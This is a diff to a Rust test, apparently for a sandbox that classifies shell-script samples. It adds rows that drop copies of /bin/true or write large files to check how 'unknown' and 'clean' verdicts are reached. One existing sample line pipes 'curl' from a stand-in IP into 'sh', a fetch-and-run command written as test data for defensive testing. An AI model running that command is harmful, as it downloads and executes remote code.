@@ -287,7 +287,7 @@ fn what_a_sample_does_decides_about_it() {
 fn silence_is_never_clean() {
     let lab = Lab::watching("[\"vm1\"]", "children_count = 2\n", 100);
     let _up = lab.site.up();
-    let table: [(&str, &str, &str, &str); 10] = [
+    let table: [(&str, &str, &str, &str); 14] = [
         (
             "pipe.sh",
             "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n",
@@ -320,6 +320,31 @@ fn silence_is_never_clean() {
         (
             "nul.sh",
             "#!/bin/sh\nprintf 'a\\000b \\\\u0000'; printf x > \"/tmp/\\\\u0000\"\n",
+            "clean",
+            "it ran to its end in Linux",
+        ),
+        // A program is one also as the 34th file of a sample, beyond the size that is sent, and in a folder that was renamed.
+        (
+            "many.sh",
+            "#!/bin/sh\nfor n in $(seq 33); do echo $n > /tmp/$n; done; cp /bin/true /tmp/x; echo done\n",
+            "unknown",
+            "it left programs: /tmp/x",
+        ),
+        (
+            "large.sh",
+            "#!/bin/sh\ncp /bin/true /tmp/x; truncate -s 40M /tmp/x; echo done\n",
+            "unknown",
+            "it left programs: /tmp/x",
+        ),
+        (
+            "moved.sh",
+            "#!/bin/sh\nmkdir ~/d; cp /bin/true ~/d/x; mv ~/d ~/e; echo done\n",
+            "unknown",
+            "it left programs: /home/user/e/x",
+        ),
+        (
+            "text.sh",
+            "#!/bin/sh\nyes all is well | head -c 41000000 > /tmp/long.log; echo done\n",
             "clean",
             "it ran to its end in Linux",
         ),
